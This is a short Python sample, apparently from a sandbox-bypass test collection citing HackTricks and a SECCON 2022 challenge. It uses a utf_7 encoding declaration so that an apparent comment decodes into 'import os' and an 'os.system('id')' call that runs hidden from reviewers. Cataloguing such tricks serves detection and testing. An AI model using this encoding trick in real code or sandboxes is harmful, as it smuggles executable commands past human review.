# -*- coding: utf_7 -*-
# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (UTF-7 section; SECCON 2022 latexipy, https://blog.arkark.dev/2022/11/18/seccon-en/#misc-latexipy)
# Family: source-encoding
# What: utf_7 cookie: the shifted sequence AAo decodes to a newline, so the 'comment' hides os.system('id')
def signal(x):
    return x
    #+AAo-import os+ADs-os.system(+ACI-id+ACI-)
print(signal(1))
